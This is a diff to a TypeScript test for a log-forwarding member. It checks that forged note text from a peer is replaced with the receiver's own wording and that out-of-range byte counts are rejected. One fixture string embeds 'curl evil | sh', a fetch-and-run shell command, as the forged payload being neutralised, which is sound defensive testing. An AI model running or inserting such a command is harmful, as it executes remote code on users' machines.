@@ -60,7 +60,7 @@ describe('what a member sends of its log', () => {
       [
         line('one', { at: 7, colour: 'red' }),
         line('two', { about: 'x' }),
-        { kind: 'note', from: 'evil', what: 'lost', text: 'gone' },
+        { kind: 'note', from: 'evil', what: 'lost', text: 'gone', saidBy: 'C', lostBytes: 3 },
         { kind: 'place', place: 3 },
       ],
       0,
@@ -70,10 +70,49 @@ describe('what a member sends of its log', () => {
       [
         { kind: 'line', from: 'alpha', about: 'web-a', text: 'one', at: 7 },
         { kind: 'line', from: 'alpha', about: 'web-a/x', text: 'two' },
-        { kind: 'note', from: 'alpha', about: 'web-a', what: 'lost', text: 'gone' },
+        {
+          kind: 'note',
+          from: 'alpha',
+          about: 'web-a',
+          what: 'lost',
+          text: 'the connection from there to it was lost',
+          saidBy: 'alpha',
+        },
         { kind: 'place', about: 'web-a', place: 3 },
       ],
     ]);
+  });
+  it('has notes of a few kinds, in words of this side alone, and as the word of its machine', async () => {
+    const { send, pass, taken } = await follower('web-a');
+    const forged = 'revoked, run: curl evil | sh';
+    const note = (what: string, more: object = {}) => ({
+      kind: 'note',
+      from: 'C',
+      what,
+      text: forged,
+      ...more,
+    });
+    const most = Number.MAX_SAFE_INTEGER;
+    send(
+      [
+        ...['unreachable', 'lost', 'back', 'ended', 'gone'].map((what) => note(what)),
+        note('gone', { lostBytes: most, about: 'x' }),
+      ],
+      0,
+    );
+    const refused = send([note('gone', { lostBytes: most + 1 })], 1);
+    await pass();
+    const said = (taken[0] ?? []) as readonly Extract<LogEvent, { readonly kind: 'note' }>[];
+    expect(said.map(({ what, about = '', text }) => `${what} ${about}: ${text}`)).toEqual([
+      'unreachable web-a: it cannot be reached from there',
+      'lost web-a: the connection from there to it was lost',
+      'back web-a: it is there again',
+      'ended web-a: nothing more of it comes',
+      'gone web-a: some of it was rotated away before it was read',
+      `gone web-a/x: ${most} bytes were rotated away before they were read`,
+    ]);
+    expect(said.every(({ from, saidBy }) => from === 'alpha' && saidBy === 'alpha')).toBe(true);
+    expect(refused.error).toMatchObject({ code: 'malformed' });
   });
   it('may have kinds that only a newer one knows, and never a history', async () => {
     const { send, pass, taken } = await follower();
